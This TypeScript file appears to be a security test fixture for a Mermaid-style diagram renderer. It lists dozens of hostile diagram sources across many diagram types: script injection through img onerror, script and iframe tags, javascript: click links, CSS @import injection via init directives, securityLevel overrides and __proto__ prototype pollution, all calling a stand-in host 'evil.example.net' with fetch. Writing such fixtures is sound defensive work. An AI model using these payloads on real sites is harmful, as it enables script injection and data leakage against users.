/** The host that every hostile diagram tries to reach. */
export const evilHost = 'evil.example.net';

const evil = `https://${evilHost}`;

/** Sets a mark where a script of a diagram could run. */
const attack = `top.hacked=1;parent.hacked=1;self.hacked=1;fetch('${evil}/fetched')`;

const flow = (line: string, before = ''): string => `${before}flowchart LR\n  a[One] --> b[Two]\n  ${line}`;

/** Diagrams that try to run a script, to lead the page away, or to load something of another host. */
export const hostileDiagrams: readonly string[] = [
  flow(`c["<img src=x onerror=${attack}>"]`),
  flow(`c["<img src='${evil}/image.png'>"]`),
  flow(`c["<script>${attack}</script>"]`),
  flow(`c["<iframe src='${evil}/frame'></iframe>"]`),
  flow(`c["<iframe srcdoc='<script>${attack}</script>'></iframe>"]`),
  flow(`c["<svg onload=${attack}><image href='${evil}/svg.png'/></svg>"]`),
  flow(`c["<a href='${evil}/' target=_top>x</a>"]`),
  flow(`c["<meta http-equiv=refresh content='0;url=${evil}/meta'>"]`),
  flow(`c["<style>@import url(${evil}/style.css)</style>"]`),
  flow(`c["<object data='${evil}/object'></object><embed src='${evil}/embed'>"]`),
  flow(`c["<form action='${evil}/form'><button autofocus onfocus=${attack}>x</button></form>"]`),
  flow(`c["#60;img src=x onerror=${attack}#62;"]`),
  flow('c["`**bold** <img src=x onerror=top.hacked=1>`"]'),
  flow(`c["\`[x](javascript:${attack})\`"]`),
  flow(`c["$$\\\\href{javascript:${attack}}{x}$$"]`),
  flow(`c["$$\\\\includegraphics{${evil}/katex.png}$$"]`),
  flow(`c@{ img: "${evil}/shape.png", label: "x", h: 60 }`),
  flow(`c@{ icon: "evil:x", label: "x" }`),
  flow(`click a call attack("${attack}")`),
  flow(`click a href "javascript:${attack}" _top`),
  flow(`click a href "${evil}/click" _top`),
  flow(`style a fill:url(${evil}/fill.svg#x),background-image:url(${evil}/background.png)`),
  flow(`classDef bad fill:red;}@import url(${evil}/class.css);{`),
  flow(`linkStyle 0 stroke:url(${evil}/stroke.svg#x)`),
  flow('c[x]', `%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${evil}/theme.css);"}}%%\n`),
  flow('c[x]', `%%{init: {"themeVariables": {"primaryColor": "red;}@import url(${evil}/colour.css);{"}}}%%\n`),
  flow('c[x]', `%%{init: {"fontFamily": "x;}*{background:url(${evil}/font.png)}{"}}%%\n`),
  flow('c[x]', `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\n`),
  flow(`c["<img src=x onerror=${attack}>"]`, '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'),
  flow('c[x]', `---\ntitle: "<img src=x onerror=${attack}>"\nconfig:\n  securityLevel: loose\n---\n`),
  flow('c[x]', `%%{init: {"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}}%%\n`),
  flow(`accTitle: <img src=x onerror=${attack}>\n  accDescr: "><script>${attack}</script>`),
  `sequenceDiagram\n  participant A\n  link A: x @ javascript:${attack}\n  links A: {"y": "${evil}/link"}\n  A->>A: <img src=x onerror=${attack}>`,
  `sequenceDiagram\n  actor A as <script>${attack}</script>\n  Note over A: <img src='${evil}/note.png'>`,
  `classDiagram\n  class A\n  click A href "javascript:${attack}"\n  link A "${evil}/class"\n  callback A "attack"`,
  `gantt\n  dateFormat YYYY-MM-DD\n  section <img src=x onerror=${attack}>\n  x :a, 2025-01-01, 3d\n  click a href "javascript:${attack}"\n  click a call attack()`,
  `pie title <img src=x onerror=${attack}>\n  "<script>${attack}</script>" : 3\n  "x" : 1`,
  `gitGraph\n  commit id: "<img src=x onerror=${attack}>" tag: "<script>${attack}</script>"`,
  `mindmap\n  root((<img src=x onerror=${attack}>))\n    ::icon(fa fa-book)\n    <script>${attack}</script>`,
  `journey\n  title <img src=x onerror=${attack}>\n  section <script>${attack}</script>\n    x: 5: <b>Me</b>`,
  `stateDiagram-v2\n  [*] --> A : <img src=x onerror=${attack}>\n  click A href "javascript:${attack}"`,
  `erDiagram\n  A ||--o{ B : "<img src=x onerror=${attack}>"`,
  `C4Context\n  Person(a, "<img src=x onerror=${attack}>", $sprite="${evil}/sprite.png", $link="javascript:${attack}")`,
  `architecture-beta\n  group api(cloud)[API]\n  service db(evil:x)[Data] in api`,
  `timeline\n  title <img src=x onerror=${attack}>\n  2025 : <script>${attack}</script>`,
];
